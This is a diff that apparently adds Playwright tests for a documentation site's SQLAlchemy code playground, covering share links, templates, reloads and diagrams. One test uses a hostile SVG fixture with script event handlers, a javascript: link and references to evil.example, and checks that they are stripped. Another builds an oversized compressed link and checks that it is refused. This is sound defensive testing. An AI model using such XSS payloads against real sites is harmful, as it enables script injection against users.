+    figure.locator(".live-stream").wait_for()
+    assert figure.locator("> .outcome").is_visible() and figure.locator(".live-result *").count() == 0
+
+
+def test_a_hostile_drawing(opened):
+    svg = """<figure><svg viewBox="0 0 9 9" width="9" height="9" onload="hacked()"><title id="UID-t">t</title><style>*{}</style>
+      <a xlink:href="javascript:1"><rect width="9"/></a><image href="https://evil.example"/><set onbegin="hacked()"/>
+      <path class="diagram-line md-overlay" d="M0 0 h5" style="fill:url(https://evil.example)"/></svg></figure>"""
+    page = opened("/playground/", {"result": {"diagram": svg}})
+    run(page.locator(".playground"), done=".diagram svg")
+    left = page.evaluate(LEFT.replace(".live-result", ".playground .diagram"))
+    uid = job(page)["uid"]
+    assert left == [
+        ["svg", "svg", {"viewBox": "0 0 9 9", "width": "9", "height": "9"}],
+        ["svg", "title", {"id": f"{uid}-t"}],
+        ["svg", "path", {"class": "diagram-line", "d": "M0 0 h5"}],
+    ]
+
+
+# Elsewhere in the site.
+
+
+@pytest.mark.parametrize("view", [WIDE_LIGHT, NARROW_DARK], ids=["1440", "390"])
+def test_side_by_side_it_stands_once_and_runs(opened, view):
+    page = opened(f"{PAGE}?view=both", **view)
+    page.wait_for_selector(".pair")
+    figures = page.locator("figure.example[data-example]").count()
+    assert page.locator(".live").count() == figures
+    run(block(page))
+    assert overflow(page) == 0
+    page.click(".language-switch a[data-view=ko]")
+    assert block(page).locator(".live-head").is_visible(), "what was run stays"
+
+
+def test_the_place_is_kept_while_the_buttons_come(opened):
+    """A link to a heading leads there, although every block above has become higher."""
+    page = opened(f"{PAGE}#passive-deletes-read")
+    page.wait_for_timeout(400)
+    top = page.locator("#passive-deletes-read").bounding_box()["y"]
+    bar = page.locator(".md-header").bounding_box()["height"]
+    assert bar - 5 <= top <= bar + 60, top
+
+
+@pytest.mark.parametrize("view", [WIDE_LIGHT, NARROW_DARK], ids=["1440", "390"])
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_the_playground_begins_with_any_template(opened, language, view):
+    page = opened(
+        "/playground/", answer(language=language), language=language, ready=".playground textarea", **view
+    )
+    said, area = words(page), page.locator(".playground textarea")
+    for _, name in playground.STARTERS:
+        page.select_option(".playground select", name)
+        source = examples.find(name)[0].source.rstrip("\n")
+        page.wait_for_function(
+            "text => document.querySelector('.playground textarea').value === text", arg=source
+        )
+    assert page.evaluate("fake.jobs.length") == 0
+    name = playground.STARTERS[-1][1]
+    example = examples.find(name)[0]
+    drawing = diagram(example.result, language, "UID-diagram")
+    page.evaluate("answer => { fake.answers = [answer] }", answer(name, language=language, diagram=drawing))
+    area.focus()
+    page.keyboard.press("Control+Enter")
+    page.wait_for_selector(".playground .diagram svg")
+    assert job(page)["source"] == example.source.rstrip("\n") and job(page)["lines"] is None
+    assert page.locator(".playground .diagram title").text_content() in drawing
+    assert page.locator(".playground .live-result .outcome").is_visible()
+    assert said["live"].replace("{database}", "SQLite") in page.locator(".live-head").inner_text()
+    assert overflow(page) == 0
+    with page.expect_download() as download:
+        page.click(f".playground button:has-text('{said['download_code']}')")
+    assert download.value.path().read_text("utf-8") == example.source.rstrip("\n")
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_a_link_brings_its_code_and_does_not_run_it(opened, language, address):
+    page = opened("/playground/", language=language, permissions=["clipboard-read", "clipboard-write"])
+    said = words(page)
+    page.wait_for_function("document.querySelector('.playground textarea').value")
+    page.locator(".playground textarea").fill("print('안녕, <b>')  # ✓\n")
+    page.click(".playground-share")
+    page.wait_for_selector(".playground-link:not([hidden])")
+    link = page.evaluate("navigator.clipboard.readText()")
+    assert link == page.input_value(".playground-link")
+    assert link.startswith(f"{address}/{language}/playground/#code=") and len(link) < 250
+    assert said["link_copied"] in page.locator(".live-status").inner_text()
+    other = opened(f"/playground/{link[link.index('#') :]}", language=language, viewport=NARROW)
+    other.wait_for_selector(".playground-notice:not([hidden])")
+    assert other.locator(".playground-notice").inner_text() == said["from_link"]
+    assert other.input_value(".playground textarea") == "print('안녕, <b>')  # ✓\n"
+    other.wait_for_timeout(300)
+    assert other.evaluate("fake.jobs.length + fake.starts") == 0
+    other.click(".live-run")
+    other.wait_for_function("fake.jobs.length === 1")
+    other.select_option(".playground select", playground.STARTERS[0][1])
+    other.wait_for_function("document.querySelector('.playground-notice').hidden")
+    assert "#" not in other.url
+
+
+@pytest.mark.parametrize("fragment", ["#code=AAAA", "#code=eJyrBgAAewB7", "#code=%00", "#notes"])
+def test_a_link_that_cannot_be_read_says_so(opened, fragment):
+    page = opened(f"/playground/{fragment}", ready=".playground textarea")
+    first = examples.find(playground.STARTERS[0][1])[0].source.rstrip("\n")
+    page.wait_for_function("text => document.querySelector('.playground textarea').value === text", arg=first)
+
+
+def test_a_link_that_swells_is_refused(opened):
+    page = opened("/playground/")
+    fragment = page.evaluate(
+        """async () => {
+          const text = JSON.stringify({ source: "x".repeat(50_000_000) });
+          const packed = await new Response(new Blob([text]).stream().pipeThrough(new CompressionStream("deflate"))).arrayBuffer();
+          const letters = Array.from(new Uint8Array(packed), (byte) => String.fromCharCode(byte)).join("");
+          return btoa(letters).replaceAll("+", "-").replaceAll("/", "_").replace(/=+$/, "");
+        }"""
+    )
+    page.evaluate("fragment => { location.hash = `code=${fragment}` }", fragment)
+    page.wait_for_selector(".playground-notice:not([hidden])")
+    assert page.locator(".playground-notice").inner_text() == words(page)["bad_link"]
+    assert len(page.input_value(".playground textarea")) < 10_000
+
+
+def test_a_block_hands_its_code_over_with_what_was_edited(opened):
+    page = opened(PAGE, answer(*SECTION))
+    figure, said = block(page, *SECTION), words(page)
+    figure.locator("button", has_text=said["edit"]).click()
+    page.keyboard.type("edited = 1\n")
+    figure.locator(".live-databases label", has_text="PostgreSQL").click()
+    figure.locator(".live-open").click()
+    page.wait_for_selector(".playground textarea")
+    page.wait_for_function("document.querySelector('.playground textarea').value.includes('edited = 1')")
+    assert page.input_value(".playground textarea").startswith("from sqlalchemy import")
+    assert page.locator(".live-databases input:checked").get_attribute("value") == "postgresql"
+    assert page.evaluate("fake.jobs.length") == 0
+
+
+def test_modules_are_handed_over_and_shown(opened):
+    page = opened("/linking/modules/")
+    figure = page.locator("figure.example[data-module]").first
+    example = examples.find(figure.get_attribute("data-example"))[0]
+    figure.locator(".live-open").click()
+    page.wait_for_selector(".playground-modules details")
+    assert page.locator(".playground-modules details").count() == len(example.modules)
+    page.click(".live-run")
+    page.wait_for_function("fake.jobs.length === 1")
+    assert job(page)["modules"].keys() == example.modules.keys()
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_the_explorer_hands_its_script_over(opened, language):
+    page = opened("/deleting/every-combination/?cascade=all", language=language, ready=".explorer-run-here")
+    page.click(".explorer-run-here")
+    page.wait_for_selector(".playground-notice:not([hidden])")
+    source = page.input_value(".playground textarea")
+    assert 'cascade="all"' in source and "echo" not in source
+    compile(source, "cell.py", "exec")
+
+
+def test_what_was_written_survives_a_reload(opened):
+    page = opened("/playground/", ready=".playground textarea")
+    page.wait_for_function("document.querySelector('.playground textarea').value")
+    page.locator(".playground textarea").fill("mine = 1")
+    page.reload()
+    page.wait_for_selector(".playground textarea")
+    page.wait_for_function("document.querySelector('.playground textarea').value === 'mine = 1'")
+    assert not page.locator(".playground-notice").is_visible()
+
+
+@pytest.mark.parametrize("language", LANGUAGES)
+def test_the_playground_without_scripts(open_page, language):
+    page = open_page(f"/{language}/playground/", java_script_enabled=False)
+    assert "WebAssembly" in page.locator("figure.playground").inner_text()
+    links = page.locator("figure.playground a")
+    assert links.count() == len(playground.STARTERS)
+    links.first.click()
+    page.wait_for_url(f"**/{language}/shapes/one-to-many/")
